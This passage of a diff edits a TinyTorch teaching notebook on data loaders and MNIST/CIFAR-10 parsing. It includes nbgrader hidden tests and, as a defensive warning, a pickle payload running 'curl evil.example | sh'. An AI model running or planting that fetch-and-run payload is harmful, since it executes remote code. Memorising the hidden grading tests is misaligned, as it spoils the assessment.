@@ -1,8 +1,8 @@
 # %% [markdown]
 # # Module 08 — DataLoader: batches, shuffling, transforms and real datasets
 #
-# Modules 01–07 built a framework that can train, but every model so far was fed arrays that
-# were already in memory, in the right shape, all at once. Real training is fed like this:
+# So far every model was fed arrays already in memory, in the right shape. Real training is fed
+# like this:
 #
 # ```
 #   files on disk ──► Dataset ──────────────► DataLoader ───────────────────► model
@@ -11,29 +11,23 @@
 #                     ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
 # ```
 #
-# This pipeline is where many real training bugs live: data that is not shuffled (each batch
-# holds one class), an epoch that silently skips samples, augmentation no run can repeat, a
-# truncated file parsed as data. You build it piece by piece, each piece tested as soon as it
-# exists, and then point it at real files: MNIST and CIFAR-10.
+# Many training bugs live here: unshuffled data (each batch one class), an epoch that skips
+# samples, augmentation no run can repeat, a truncated file parsed as data. You build the
+# pipeline piece by piece, each piece tested, then point it at MNIST and CIFAR-10.
 #
 # **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). **Time:** about 2 hours.
 #
 # ## Learning Objectives
 #
-# 1. Implement PyTorch's **Dataset / DataLoader protocol** (`__len__`, `__getitem__`, batching,
-#    shuffling, `drop_last`) with **one fancy index per batch**, and *measure* why.
-# 2. Make shuffling and augmentation **reproducible** with a per-loader generator, and resumable
-#    with `state_dict()`.
-# 3. Write **batch transforms** without Python loops over samples: `Normalize`, `RandomCrop`,
-#    `RandomHorizontalFlip`.
-# 4. Parse the **idx** (MNIST) and **CIFAR-10 binary** formats, checking every header, and
-#    explain why a loader never unpickles a file it has not verified.
-# 5. Measure what a dataset costs in memory (uint8 against float32) and decide where the
-#    conversion belongs.
+# 1. Implement the **Dataset / DataLoader protocol** with **one fancy index per batch**, and
+#    *measure* why.
+# 2. Make shuffling and augmentation **reproducible** (a per-loader generator) and resumable.
+# 3. Write **batch transforms** without loops over samples: `Normalize`, `RandomCrop`, flips.
+# 4. Parse the **idx** and **CIFAR-10 binary** formats, checking every header, and never unpickle.
+# 5. Measure a dataset's memory (uint8 against float32) and decide where to convert.
 #
-# Downloads (mirrors, checksums, atomic writes) and the dataset generators are **given code**
-# in `tinytorch/data/_download.py` and `tinytorch/data/_generated.py`: sections 4 and 6 read
-# along with them; you do not write them.
+# Downloads and the dataset generators are **given code** (`tinytorch/data/_download.py`,
+# `_generated.py`), read along in sections 4 and 6.
 
 # %% nbgrader={"grade": false, "grade_id": "dataloader-imports", "locked": false, "schema_version": 3, "solution": false}
 #| default_exp data.loader
@@ -71,17 +65,13 @@ from tinytorch.core.tensor import manual_seed
 # ## 1. Batches and the Dataset protocol
 #
 # Training minimises the average loss over the training set; each step estimates its gradient
-# from a **mini-batch** of `B` samples. The estimate's noise falls like `1/√B`, while the
-# hardware's throughput rises with `B` (matrix-matrix products instead of matrix-vector ones)
-# until the arithmetic units are full. Batch sizes of 32–256 sit near that crossing for small
-# models on a CPU. And a batch is an honest estimate only if it is a **random sample**: files
-# are often sorted (by class, by difficulty), so every epoch needs a fresh permutation.
+# from a **mini-batch** of `B` samples: its noise falls like `1/√B`, while throughput rises
+# with `B` until the arithmetic units are full. A batch is an honest estimate only if it is a
+# **random sample**; files are often sorted (by class), so every epoch needs a fresh permutation.
 #
-# PyTorch separates *what the data is* from *how it is served*. A **Dataset** answers two
-# questions, `len(dataset)` and `dataset[i]` (sample i, e.g. `(image, label)`); a
-# **DataLoader** does everything else: orders, batches, augments, converts to Tensors.
-#
-# The simplest way to make a batch is one `dataset[i]` per sample, then stack the samples
+# PyTorch separates *what the data is* from *how it is served*. A **Dataset** answers
+# `len(dataset)` and `dataset[i]` (e.g. `(image, label)`); a **DataLoader** orders, batches,
+# augments and converts to Tensors. The simplest batch is one `dataset[i]` per sample, stacked
 # field by field:
 #
 # ```
@@ -89,8 +79,7 @@ from tinytorch.core.tensor import manual_seed
 # ```
 #
 # Your turn: `stack_samples(samples)`, the slow path every dataset gets for free. A sample is a
-# tuple (or list) of fields, or a single array or number; Tensors are unwrapped to their arrays
-# by `_as_array` (given).
+# tuple (or list) of fields, or a single array or number (`_as_array`, given, unwraps Tensors).
 
 # %% nbgrader={"grade": false, "grade_id": "stack-samples", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -153,26 +142,22 @@ if __name__ == "__main__":
 # %% [markdown]
 # ### The fast path: `get_batch`, and TensorDataset
 #
-# For a dataset that lives in **one big array**, one call per sample wastes almost all of its
-# time in the interpreter: a call, a tuple, two small arrays per sample. NumPy gathers all `B`
-# rows in one operation, an integer-array ("fancy") index:
+# For a dataset in **one big array**, one call per sample spends its time in the interpreter.
+# NumPy gathers all `B` rows in one integer-array ("fancy") index:
 #
 # ```
 #   images[[17, 3, 42, …]]   ──►  (B, 1, 28, 28) in one C loop, one allocation
 #   labels[[17, 3, 42, …]]   ──►  (B,)
 # ```
 #
-# So our datasets have a third method, **`get_batch(indices)`**, that returns a whole batch. The
-# base class `Dataset` implements it the slow way, with `stack_samples` (it works for any
-# dataset); array-backed datasets override it with one fancy index per array. The loader always
-# calls `get_batch` and never needs to know which kind it has. (PyTorch's name for the same
-# escape hatch is `__getitems__`.) The Complexity Analysis section measures the difference.
+# So our datasets have a third method, **`get_batch(indices)`** (PyTorch: `__getitems__`). The
+# base `Dataset` implements it the slow way, with `stack_samples`; array-backed datasets
+# override it with one fancy index per array. The loader always calls `get_batch`; the
+# Complexity Analysis section measures the difference.
 #
-# `TensorDataset(X, y)` wraps arrays (or Tensors) that share their first dimension: sample `i`
-# is `(X[i], y[i])`. It stores and returns NumPy arrays; the *loader* makes Tensors, once per
-# batch. An int index gives a tuple of samples; a slice, list or integer array gives a tuple of
-# batches (the fast path). `_index_array` (given) turns a slice, list or array into validated
-# integer indices.
+# `TensorDataset(X, y)` wraps arrays (or Tensors) sharing their first dimension: sample `i` is
+# `(X[i], y[i])`, as NumPy arrays (the *loader* makes Tensors, once per batch). `_index_array`
+# (given) turns a slice, list or array into validated integer indices.
 #
 # Your turn: `TensorDataset.__getitem__` and `TensorDataset.get_batch`.
 # %% nbgrader={"grade": false, "grade_id": "dataset", "locked": false, "schema_version": 3, "solution": true}
@@ -192,12 +177,8 @@ def _index_array(indices: Any, length: int) -> np.ndarray:
 
 
 class Dataset:
-    """A map-style dataset: `len(ds)` samples, `ds[i]` is sample i.
-
-    Subclasses define `__len__` and `__getitem__`. `get_batch(indices)` gives a whole batch; here
-    it is the slow path (one `__getitem__` per sample, then stack). Array-backed datasets
-    override it with one fancy index per array.
-    """
+    """A map-style dataset: subclasses define `__len__` and `__getitem__` (sample i).
+    `get_batch(indices)` is the slow path here; array-backed datasets override it."""
 
     def __len__(self) -> int:
         raise NotImplementedError(f"{type(self).__name__} must define __len__.")
@@ -208,7 +189,6 @@ class Dataset:
     def get_batch(self, indices: Sequence[int]) -> Any:
         """The samples at `indices`, stacked: one Python call per sample (the slow path)."""
         return stack_samples([self[int(i)] for i in _index_array(indices, len(self))])
-
 
 
 class TensorDataset(Dataset):
@@ -290,7 +270,6 @@ def test_unit_tensor_dataset():
     np.testing.assert_array_equal(yb, y[[7, 2, 2, 0]])
     xs, ys = ds[2:5]
     assert xs.shape == (3, 2) and list(ys) == [2, 0, 1]
-    assert ds.get_batch([1])[0].shape == (1, 2)
 
     with pytest.raises(IndexError, match="Index 10 is out of range for a dataset of 10 samples"):
         ds[10]
@@ -311,13 +290,11 @@ def test_unit_tensor_dataset():
     feats, labels = Squares().get_batch([5, 1])
     np.testing.assert_array_equal(feats, [[5.0, 25.0], [1.0, 1.0]])
     np.testing.assert_array_equal(labels, [1, 1])
-    slow = Dataset.get_batch(ds, [4, 0, 9])
-    fast = ds.get_batch([4, 0, 9])
-    for a, b in zip(slow, fast):
+    for a, b in zip(Dataset.get_batch(ds, [4, 0, 9]), ds.get_batch([4, 0, 9])):
         np.testing.assert_array_equal(a, b)
 
     ### BEGIN HIDDEN TESTS
-    assert ds[np.int64(2)][1] == 2
+    assert ds[np.int64(2)][1] == 2 and ds.get_batch([1])[0].shape == (1, 2)
     with pytest.raises(TypeError, match="1-D array of integers"):
         ds.get_batch(np.array([0.5, 1.0]))
     assert ds.get_batch(np.array([], dtype=np.int64))[0].shape == (0, 2)
@@ -344,26 +321,22 @@ if __name__ == "__main__":
 #   Tensor(inputs), Tensor(labels, int64)                            what the model receives
 # ```
 #
-# `drop_last=True` skips the last, smaller batch: its gradient is noisier, and layers that
-# compute batch statistics (batch norm) can misbehave on a batch of one. Batches become Tensors
-# by `Tensor(array)`'s rule: floats become float32 (a float64 array would make every layer
-# compute in float64) and **integer arrays become int64**, the labels `CrossEntropyLoss` expects.
+# `drop_last=True` skips the last, smaller batch (noisier, and batch norm can misbehave on a
+# batch of one). Floats become float32 Tensors and **integer arrays int64**, the labels
+# `CrossEntropyLoss` expects.
 #
 # ### Reproducible shuffling, and resuming: `state_dict()`
 #
-# Same seed, same batches, same model. Each loader owns a `np.random.Generator`,
-# `loader.generator`, and draws every permutation (and every random augmentation) from it.
-# `seed=0` means `np.random.default_rng(0)`; with `seed=None` the generator is **spawned** from
-# TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` before creating the loader makes it
-# reproducible too, and spawning draws no number from the parent, so creating a loader does not
-# shift the model's initialisation. The generator lives as long as the loader, so epoch 2
-# continues the stream with a new permutation.
+# Each loader owns a `np.random.Generator`, `loader.generator`, and draws every permutation (and
+# every random augmentation) from it: `seed=0` means `np.random.default_rng(0)`; `seed=None`
+# **spawns** it from TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` makes it
+# reproducible too, without shifting the model's initialisation (spawning draws no number).
+# Epoch 2 continues the stream with a new permutation.
 #
-# A run resumed from a checkpoint in a new process creates a new loader, back at epoch 1. To
-# resume *exactly*, the checkpoint also holds `loader.state_dict()` (the generator's state,
-# JSON-able); `load_state_dict(state)` puts a new loader at the same point of its stream. Module
-# 07's `Trainer` saves it with every checkpoint (the names are `torchdata`'s
-# `StatefulDataLoader`'s). Both methods are given.
+# A run resumed in a new process gets a new loader, back at epoch 1. To resume *exactly*, the
+# checkpoint holds `loader.state_dict()` (the generator's state, JSON-able) and
+# `load_state_dict(state)` restores it; module 07's `Trainer` saves it (names from `torchdata`'s
+# `StatefulDataLoader`). Both methods are given.
 #
 # Your turn: the number of batches, the order of an epoch, and the batch loop.
 
@@ -520,16 +493,14 @@ def test_unit_dataloader():
     xb, yb = batches[0]
     assert isinstance(xb, Tensor) and xb.dtype == np.float32 and yb.dtype == np.int64
     np.testing.assert_array_equal(np.concatenate([b.data for _, b in batches]), np.arange(10))
-    assert len(DataLoader(ds, batch_size=4, drop_last=True)) == 2
-    assert [len(b.data) for _, b in DataLoader(ds, batch_size=4, drop_last=True)] == [4, 4]
+    dropped = DataLoader(ds, batch_size=4, drop_last=True)
+    assert len(dropped) == 2 and [len(b.data) for _, b in dropped] == [4, 4]
     assert len(DataLoader(ds, batch_size=5)) == 2 and len(DataLoader(ds, batch_size=64)) == 1
 
     # Shuffled: every sample exactly once per epoch, a new order each epoch, and reproducible.
     loader = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
-    epoch1 = np.concatenate([b.data for _, b in loader])
-    epoch2 = np.concatenate([b.data for _, b in loader])
-    assert sorted(epoch1) == list(range(10)) and sorted(epoch2) == list(range(10))
-    assert not np.array_equal(epoch1, epoch2)
+    epoch1, epoch2 = (np.concatenate([b.data for _, b in loader]) for _ in range(2))
+    assert sorted(epoch1) == sorted(epoch2) == list(range(10)) and not np.array_equal(epoch1, epoch2)
     again = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
     np.testing.assert_array_equal(np.concatenate([b.data for _, b in again]), epoch1)
     # Inputs and labels stay paired.
@@ -537,11 +508,11 @@ def test_unit_dataloader():
         np.testing.assert_array_equal(xb.data[:, 0], yb.data)
 
     # seed=None: manual_seed makes the loader reproducible.
-    manual_seed(7)
-    first = np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)])
-    manual_seed(7)
-    second = np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)])
-    np.testing.assert_array_equal(first, second)
+    runs = []
+    for _ in range(2):
+        manual_seed(7)
+        runs.append(np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)]))
+    np.testing.assert_array_equal(*runs)
 
     # state_dict: a new loader continues the stream where the saved one stood.
     loader = DataLoader(ds, batch_size=4, shuffle=True, seed=3)
@@ -560,8 +531,7 @@ def test_unit_dataloader():
         DataLoader(TensorDataset(np.zeros((0, 2))))
 
     ### BEGIN HIDDEN TESTS
-    # A dataset without get_batch (duck-typed) goes through the slow path; single-array samples.
-    class Plain:
+    class Plain:  # no get_batch (duck-typed): the slow path, with single-array samples
         def __len__(self):
             return 5
 
@@ -571,10 +541,8 @@ def test_unit_dataloader():
     out = list(DataLoader(Plain(), batch_size=2))
     assert len(out) == 3 and isinstance(out[0], Tensor) and out[0].shape == (2, 2)
     np.testing.assert_array_equal(out[2].data, [[4.0, 4.0]])
-    # A plain callable transform is applied to the inputs only.
-    xb, yb = next(iter(DataLoader(ds, batch_size=10, transform=lambda a: a * 2)))
-    np.testing.assert_array_equal(xb.data[:, 0], 2 * np.arange(10))
-    np.testing.assert_array_equal(yb.data, np.arange(10))
+    xb, yb = next(iter(DataLoader(ds, batch_size=10, transform=lambda a: a * 2)))  # inputs only
+    np.testing.assert_array_equal(np.c_[xb.data[:, 0], yb.data], np.c_[2 * np.arange(10), np.arange(10)])
     with pytest.raises(ValueError, match="positive integer"):
         DataLoader(ds, batch_size=2.5)
     with pytest.raises(TypeError, match="__len__ and __getitem__"):
@@ -589,22 +557,16 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 3. Transforms and augmentation, a whole batch at a time
 #
-# A **transform** changes the inputs on their way to the model. **Preprocessing** is the same
-# every time: scale pixels to [0, 1], subtract each channel's mean, divide by its standard
-# deviation (module 03's initialisation assumes unit-variance inputs). **Augmentation** is
-# random every time: shift the image a few pixels, mirror it. The label does not change, so
-# each epoch shows the model a slightly different training set, the cheapest defence against
-# overfitting that vision has (the classic CIFAR-10 recipe: pad 4, crop 32, flip).
+# **Preprocessing** is the same every time: scale pixels, subtract each channel's mean, divide
+# by its std (module 03's initialisation assumes unit-variance inputs). **Augmentation** is
+# random every time: shift the image a few pixels, mirror it; each epoch sees a slightly
+# different training set, vision's cheapest defence against overfitting (CIFAR-10's recipe: pad
+# 4, crop 32, flip). torchvision transforms one sample at a time; ours take the **whole batch**,
+# `(N, C, H, W)` or `(N, D)`, NumPy in and out, drawing from the loader's generator.
 #
-# torchvision transforms **one sample at a time**, inside `dataset[i]`. Ours take the **whole
-# batch**, `(N, C, H, W)` or `(N, D)`, NumPy in and NumPy out, every sample in one vectorised
-# operation. The loader passes its own generator, so augmentation is reproducible whenever
-# shuffling is.
-#
-# `Normalize(mean, std)` computes `(x - mean) / std` per channel (axis 1): one value per channel
-# of `(N, C, H, W)`, per feature of `(N, D)`, or one number for everything. For MNIST the usual
-# values are mean 0.1307, std 0.3081. `Compose([t1, t2, ...])` applies transforms in order,
-# handing the generator to each.
+# `Normalize(mean, std)` computes `(x - mean) / std` per channel (axis 1) or per feature, or with
+# one number for everything (MNIST: 0.1307, 0.3081). `Compose([t1, t2, ...])` applies transforms
+# in order, handing the generator to each.
 #
 # Your turn: the arithmetic of `Normalize` and the loop of `Compose`.
 
@@ -719,35 +681,15 @@ if __name__ == "__main__":
 # %% [markdown]
 # ### RandomCrop without a loop over samples
 #
-# `RandomCrop(size, padding)` pads each image with `padding` zeros on every side and cuts out a
-# `size × size` window at a random position, **a different position for every sample**. The
-# obvious code is a loop, `for n in range(N): out[n] = padded[n, :, i[n]:i[n]+h, j[n]:j[n]+w]`.
-# The vectorised version needs one idea: `sliding_window_view`.
+# `RandomCrop(size, padding)` pads each image with `padding` zeros and cuts a `size × size`
+# window at a **different random position for every sample**, without a loop:
+# `sliding_window_view(padded, (h, w), axis=(-2, -1))` is a *view* (no copy) of every window,
+# shape `(N, C, H-h+1, W-w+1, h, w)`; axes 2 and 3 say where a window starts. One fancy index,
+# `windows[arange(N), :, top, left]` with `(N,)` random offsets, gathers one window per sample.
 #
-# `sliding_window_view(padded, (h, w), axis=(-2, -1))` is a *view* (no copy, no memory) of
-# every `h × w` window of every image. For a batch `(N, C, H, W)` it has shape
-# `(N, C, H-h+1, W-w+1, h, w)`: axes 2 and 3 say *where* the window starts, axes 4 and 5 are
-# the window's pixels. Choosing one window per sample is then one fancy index:
-#
-# ```
-#   windows[every n, :, top, left]          top, left: (N,) random offsets
-#            │         │   └────┴── the start of sample n's window is (top[n], left[n])
-#            │         └── all channels
-#            └── sample n
-#   → (N, C, h, w): NumPy gathers N windows in one C loop (a copy of just the crops)
-# ```
-#
-# Padding 4 and cropping back to 32 shifts a CIFAR image by up to 4 pixels in each direction,
-# filling the gap with black, like a camera that moved a little.
-#
-# ### RandomHorizontalFlip
-#
-# Each image is mirrored left-right with probability `p`: draw `N` coin flips, then reverse the
-# last axis of the chosen samples in one masked assignment. (Vertical flips are not used for
-# natural images or digits: an upside-down cat is rarely photographed, and a flipped 6 is a 9.)
-#
-# Both take `(N, C, H, W)` or `(N, H, W)` batches. A flattened `(N, D)` batch has no rows and
-# columns any more, so both refuse it: augment first, flatten afterwards.
+# `RandomHorizontalFlip(p)` mirrors each image with probability `p`: `N` coin flips, then one
+# masked assignment. (No vertical flips: a flipped 6 is a 9.) Both refuse a flattened `(N, D)`
+# batch, which has no rows and columns: augment first, flatten afterwards.
 
 # %% nbgrader={"grade": false, "grade_id": "random-crop-flip", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -845,15 +787,10 @@ def test_unit_random_crop_and_flip():
     # No padding: each crop is a window of its own image, at positions that vary across samples.
     crops = RandomCrop(5)(images, rng=np.random.default_rng(1))
     assert crops.shape == (64, 3, 5, 5) and crops.dtype == np.float32
-    offsets = []
-    for n in (0, 1, 2, 63):
-        found = [(i, j) for i in range(4) for j in range(4)
-                 if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])]
-        assert found, f"crop {n} is not a window of image {n}"
-        offsets.append(found[0])
-    all_offsets = {(i, j) for n in range(64) for i in range(4) for j in range(4)
-                   if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])}
-    assert len(all_offsets) > 8  # per-sample offsets, not one offset for the whole batch
+    offsets = [next(((i, j) for i in range(4) for j in range(4)
+                     if np.array_equal(crops[n], images[n, :, i:i + 5, j:j + 5])), None) for n in range(64)]
+    assert None not in offsets, "every crop must be a window of its own image"
+    assert len(set(offsets)) > 8  # per-sample offsets, not one offset for the whole batch
 
     # Padding: the crop has the original size and zeros where it slid off the image.
     padded = RandomCrop(8, padding=2)(images, rng=np.random.default_rng(2))
@@ -897,9 +834,8 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 4. Datasets you can generate (given code)
 #
-# Real datasets are large, need a download and take minutes to train on. Tests, demos and the
-# first milestones want data that is **small, instant, offline and deterministic**, with a known
-# difficulty, so the package ships generators (given code, in `tinytorch/data/_generated.py`):
+# Tests, demos and the first milestones want data that is **small, instant, offline and
+# deterministic**, so the package ships generators (`tinytorch/data/_generated.py`):
 #
 # | generator | data | hard for… |
 # |---|---|---|
@@ -908,14 +844,10 @@ if __name__ == "__main__":
 # | `make_blobs(n_per_class, centers, n_features, std)` | Gaussian clusters | nobody: a sanity check |
 # | `load_digits(n_per_class, size)` | 8×8 images of the digits 0–9, drawn from stroke templates | a real but small image task |
 #
-# Every generator returns `(X, y)` NumPy arrays, features float32 and labels int64,
-# **shuffled** (so `X[:800]` is a fair training split), like scikit-learn; wrap them as you
-# need, `TensorDataset(*make_spirals(100))`. Each takes a `seed`; with `seed=None` it draws from
-# TinyTorch's generator, so `manual_seed` reproduces it too. `load_digits` draws each digit's
-# strokes (a `0` is an ellipse, a `4` three lines) under its own random rotation, shear, scale,
-# shift and pen width, vectorised over samples and pixels. The cell below checks them live,
-# including that the digits are learnable: softmax regression trained on one sample of digits
-# and tested on another.
+# Each returns **shuffled** `(X, y)` arrays (float32, int64), like scikit-learn, e.g.
+# `TensorDataset(*make_spirals(100))`, and takes a `seed` (`None`: TinyTorch's generator).
+# `load_digits` draws stroke templates under random rotation, shear, scale, shift and pen width.
+# The cell below checks them, including that softmax regression learns the digits.
 
 # %% nbgrader={"grade": false, "grade_id": "check-generated", "locked": true, "schema_version": 3, "solution": false}
 def check_generated_datasets(verbose: bool = True) -> float:
@@ -969,21 +901,12 @@ if __name__ == "__main__":
 #
 # ### Images in memory: bytes, not floats
 #
-# An image file stores each pixel as one byte, 0–255. A model wants float32 in [0, 1]. Where
-# should the conversion happen?
-#
-# | convert… | MNIST train (60 000 × 28 × 28) in memory | CIFAR-10 train (50 000 × 3 × 32 × 32) |
-# |---|---|---|
-# | once, at load time: keep float32 | 188 MB | 614 MB |
-# | per batch: keep uint8, convert each batch | **47 MB** | **154 MB** |
-#
-# Gathering a uint8 batch reads 4× fewer bytes than gathering a float32 one, and converting
-# only the batch is cheap (the Memory Profiling section measures both). So `ImageDataset` keeps
-# `.data` as **uint8** `(N, C, H, W)` (torchvision's `.data`), `.targets` as int64 and
-# `.classes` as names, and converts in `get_batch`: `(data[idx] as float32 / 255, targets[idx])`.
-# Images are `(N, C, H, W)` even for grey MNIST (`C = 1`), so the same batches serve
-# convolutions (module 09); an MLP flattens each batch with a transform such as
-# `lambda x: x.reshape(len(x), -1)`.
+# A file stores each pixel as one byte; a model wants float32 in [0, 1]. Converting once at
+# load time makes the dataset 4× larger in memory; converting per batch costs one small
+# conversion per batch (the Memory Profiling section measures both). So `ImageDataset` keeps
+# `.data` as **uint8** `(N, C, H, W)` (like torchvision), `.targets` as int64 and `.classes` as
+# names, and converts in `get_batch`. Grey MNIST is `(N, 1, 28, 28)` too, so the same batches
+# serve convolutions (module 09); an MLP flattens with `lambda x: x.reshape(len(x), -1)`.
 #
 # Your turn: `get_batch`, reusing `TensorDataset`'s gather.
 
@@ -1082,8 +1005,7 @@ def registered_checksums(files: dict[str, bytes]):
 # %% [markdown]
 # ### The idx format (MNIST)
 #
-# MNIST (LeCun, Cortes and Burges, 1998) ships as four gzip-compressed **idx** files. An idx
-# file is a tiny header and then raw bytes:
+# MNIST (LeCun, Cortes and Burges, 1998) is four gzipped **idx** files: a header, raw bytes.
 #
 # ```
 #   offset  bytes  meaning                        train-images-idx3-ubyte
@@ -1095,15 +1017,10 @@ def registered_checksums(files: dict[str, bytes]):
 #   4+4·D   ...    the elements, row-major        47 040 000 pixel bytes
 # ```
 #
-# The labels file has magic 2049 (`08`, one dimension) and then 60 000 label bytes. Reading it
-# takes no loop at all: the bytes after the header can be *viewed* as an array (no copy) and
-# given the sizes from the header.
-#
-# A parser must **check everything the header claims**. A wrong magic number means the wrong
-# file (images where labels were expected). A size mismatch means a truncated or padded file.
-# Without the checks, `reshape` fails with a NumPy message about an array of size 47 039 000,
-# or worse, a wrong file parses "successfully" as garbage. Our errors name the file and say
-# what was expected.
+# Labels have magic 2049 (one dimension). The bytes after the header are *viewed* as an array
+# (no copy) of the header's sizes. A parser must **check everything the header claims**: a
+# wrong magic means the wrong file, a size mismatch a truncated one; without the checks a wrong
+# file may parse "successfully" as garbage. Our errors name the file and what was expected.
 
 # %% nbgrader={"grade": false, "grade_id": "read-idx", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -1207,9 +1124,8 @@ if __name__ == "__main__":
 # %% [markdown]
 # ### The CIFAR-10 binary format, and why we never unpickle
 #
-# CIFAR-10 (Krizhevsky, 2009) is published in three versions. The "Python version" most
-# tutorials use is six **pickle** files, and loading a pickle runs a small program the file
-# contains: `pickle.load` calls whatever function the file names. This is a complete pickle:
+# CIFAR-10 (Krizhevsky, 2009)'s "Python version" is **pickle** files, and `pickle.load` calls
+# whatever function the file names. This is a complete pickle:
 #
 # ```python
 # class Payload:
@@ -1217,12 +1133,9 @@ if __name__ == "__main__":
 #         return (os.system, ("curl evil.example | sh",))   # pickle.load() runs this
 # ```
 #
-# A checksum verified first makes that safe in practice, but one forgotten check is enough (the
-# reason `torch.load` now defaults to `weights_only=True`). A data format should be **data**, so
+# One forgotten checksum is enough (why `torch.load` now defaults to `weights_only=True`), so
 # we use the **binary version**: records of 3 073 bytes, `[label 0..9] [1024 red] [1024 green]
-# [1024 blue]` (each plane 32×32, row-major); `data_batch_1.bin … data_batch_5.bin` hold 10 000
-# records each, `test_batch.bin` 10 000 more. Parsing is again a view of the bytes, given a
-# shape, already channels-first.
+# [1024 blue]` (32×32 planes, row-major), 10 000 per file. Parsing is again a view of the bytes.
 
 # %% nbgrader={"grade": false, "grade_id": "read-cifar", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -1292,31 +1205,23 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 6. Downloads you can trust (given code, read along)
 #
-# `download_mnist()` and `download_cifar10()` find their files, or fetch them, before your
-# parsers see a byte. That machinery is not this module's subject, so it is given:
-# `tinytorch/data/_download.py` (about 270 lines, tested against a local HTTP server by
-# `tests/integration/test_downloads.py`). Read it beside this section; it follows four rules.
+# Finding and fetching the files is given code, `tinytorch/data/_download.py` (tested against a
+# local HTTP server by `tests/integration/test_downloads.py`). Read it beside four rules:
 #
-# 1. **The folder**: the `root` argument, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch`
-#    (`data_root`), with the canonical file names under `mnist/` and `cifar10/`, so a folder
-#    filled by hand works.
-# 2. **Checksums before parsing**: `CHECKSUMS` maps each file name to its published fingerprint
-#    (`"sha256:440f…"`; sha1/md5 where that is what the authors published: they still catch
-#    every accidental corruption). A mismatch is a `ChecksumError` with both values; a local
-#    file that fails is reported, never parsed, never replaced (it may be yours). This catches
-#    cut-off downloads, HTML error pages served with status 200, disk errors, tampering.
-# 3. **Atomic writes**: a file appears under its real name only when complete and verified.
-#    It is streamed into `.name.<random>.part` in the *same folder* (hashed as it arrives, its
-#    length checked against `Content-Length`: a server that closes early makes `read()` return
-#    `b""`, not raise), then `fsync` and `os.replace`, which is atomic within one file system.
-# 4. **Mirrors, one clear error**: base URLs (`MIRRORS`) are tried in order; when all fail,
-#    `DownloadError` names the file, the folder searched (and why that one) and what every
-#    mirror answered. CIFAR-10's archive is opened member by member, each member verified and
-#    written under a name the code chooses (never `tar.extractall`: a member may be named
-#    `../../.bashrc`).
+# 1. **The folder**: `root`, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch` (`data_root`),
+#    canonical names under `mnist/` and `cifar10/`, so a folder filled by hand works.
+# 2. **Checksums before parsing**: `CHECKSUMS` maps each file to its published fingerprint
+#    (`"sha256:440f…"`, or the authors' sha1/md5). A mismatch is a `ChecksumError`; a local file
+#    that fails is reported, never parsed or replaced. This catches cut-off downloads, HTML
+#    error pages served with status 200, disk errors, tampering.
+# 3. **Atomic writes**: a download streams into `.name.<random>.part` in the *same folder*
+#    (hashed as it arrives, length checked against `Content-Length`), then `fsync` and
+#    `os.replace`, atomic within one file system.
+# 4. **Mirrors, one clear error**: `MIRRORS` are tried in order; `DownloadError` names the file,
+#    the folder and what every mirror answered. CIFAR-10's archive is read member by member,
+#    each verified and written under a name the code chooses (never `tar.extractall`).
 #
-# The demonstration below serves a file from a local folder (`file://` URLs, which `urllib`
-# handles like `https://`) and shows rules 2–4 at work.
+# The demonstration below serves a file through `file://` URLs and shows rules 2–4 at work.
 
 # %% nbgrader={"grade": false, "grade_id": "downloads-tour", "locked": false, "schema_version": 3, "solution": false}
 def tour_of_downloads() -> None:
@@ -1347,8 +1252,7 @@ if __name__ == "__main__":
 # %% [markdown]
 # ### MNIST and CIFAR-10
 #
-# With the files found and verified, what is left is this module's subject: parse them with
-# your readers and serve them as `ImageDataset`s.
+# With the files found and verified, parse them with your readers into `ImageDataset`s.
 #
 # ```python
 # train, test = download_mnist()      # 60 000 and 10 000 images (1, 28, 28), classes "0"…"9"
@@ -1482,14 +1386,9 @@ if __name__ == "__main__":
 # | `RandomCrop` | O(B·C·(H+2p)·(W+2p)) for the pad, O(B·C·h·w) for the gather | the window view itself is free |
 # | checksum, idx / CIFAR parse | O(file size), constant memory for the hash | gunzip dominates; `frombuffer` is free |
 #
-# An epoch costs O(N·D) bytes of copying whichever path you take. What differs is the constant:
-# the slow path pays the Python interpreter `N` times per epoch, the fast path `N / B` times.
-# The measurement below runs both on MNIST-sized data (random bytes with MNIST's shapes, so no
-# download is needed) and prints the rates and the ratio on this machine. Expect the ratio to
-# grow with the batch size: the fast path's fixed cost per batch is spread over more samples,
-# while the slow path pays per sample whatever the batch size. The per-sample dataset here is
-# as lean as one can be; one that builds a Tensor per sample, or decodes a file, is slower
-# still, and that is where PyTorch's worker processes come in.
+# Both paths copy O(N·D) bytes per epoch; the slow path pays the interpreter `N` times, the fast
+# path `N / B` times. Below, both run on random bytes shaped like MNIST. A per-sample dataset
+# that decodes files is slower still: that is where PyTorch's worker processes come in.
 
 # %% nbgrader={"grade": false, "grade_id": "analyze-batching-speed", "locked": false, "schema_version": 3, "solution": false}
 def _machine() -> str:
@@ -1505,9 +1404,7 @@ def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 
     labels = rng.integers(0, 10, size=n)
     fast = ImageDataset(images, labels)
 
-    class PerSample(Dataset):
-        """The same data, served the way a first Dataset is usually written: one sample per call."""
-
+    class PerSample(Dataset):  # the same data, one sample per call, as a first Dataset is written
         def __len__(self):
             return n
 
@@ -1538,44 +1435,26 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## Memory Profiling
 #
-# Section 5 chose to keep images as uint8 and convert per batch. Is that free? The function
-# below measures, on the real MNIST when `$TINYTORCH_DATA` has it and on random bytes of the
